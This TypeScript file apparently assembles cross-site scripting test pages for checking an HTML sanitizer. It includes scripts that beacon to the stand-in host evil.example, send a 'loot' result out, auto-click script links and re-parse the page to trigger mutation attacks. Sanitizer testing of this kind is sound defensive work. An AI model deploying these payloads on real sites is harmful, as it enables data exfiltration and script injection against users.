// The attacks as whole pages.
import { BEACONS, LOOK_AHEAD, MENUS, SCRIPT_LINKS, STYLES } from "./static.ts";
import { MENU_ATTACKS } from "./menus.ts";
import { READS } from "./reads.ts";
import { ESCAPES, MUTATIONS, SCRIPTED_REQUESTS } from "./scripted.ts";

const CLICK_ALL = `<script>
  function a() { new Image().src = "//evil.example/link"; }
  document.querySelectorAll("a, area").forEach((link) =>
    link.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true })));
</script>`;
const TELL = `<script>
  function tell(loot) { console.log("LOOT " + loot); new Image().src = "//evil.example/" + !!loot; }
</script>`;
const READ_AGAIN =
  `<script>document.body.innerHTML = document.body.innerHTML + document.body.textContent;</script>`;

/** Menus that hide, and menus that try to leave something behind. */
export const ALL_MENUS: string[] = [...MENUS, ...MENU_ATTACKS.filter((_, i) => i % 3 === 0)];

/** No script of their own: the sanitizer alone has to stop them. */
export const STATIC_PAGES: string[] = [
  ...BEACONS,
  ...LOOK_AHEAD,
  ...STYLES.map((css) => `<body><ul><li>x</ul><style>${css}</style>`),
  ...STYLES.map((css) => `<svg><style>${css}</style></svg><p>x</p>`),
];

export const LINK_PAGES: string[] = SCRIPT_LINKS.flatMap((href) => [
  `<a href="${href}">x</a>${CLICK_ALL}`,
  `<svg><a xlink:href="${href}"><text y=9>x</text></a></svg>${CLICK_ALL}`,
]);

export const SCRIPTED_PAGES: string[] = [...SCRIPTED_REQUESTS, ...ESCAPES].map(inBody);

export const READING_PAGES: string[] = READS.map((code) =>
  TELL + inBody(`try { ${code} } catch {}`)
);

export const MUTATION_PAGES: string[] = MUTATIONS.map((markup) => markup + READ_AGAIN);

function inBody(code: string): string {
  return `<body><p>x</p><script>{ ${code} }</script>`;
}
